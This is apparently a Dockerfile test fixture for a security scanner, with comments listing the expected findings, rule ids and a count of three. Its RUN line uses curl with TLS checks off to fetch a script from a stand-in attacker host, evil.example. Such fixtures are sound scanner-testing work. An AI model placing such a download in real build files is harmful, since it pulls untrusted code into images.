FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -k -o /z https://evil.example/x.sh
USER app
# expect: download 2 high "TLS checks off (--insecure)"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-767a1989de VR501-e064bac1a6
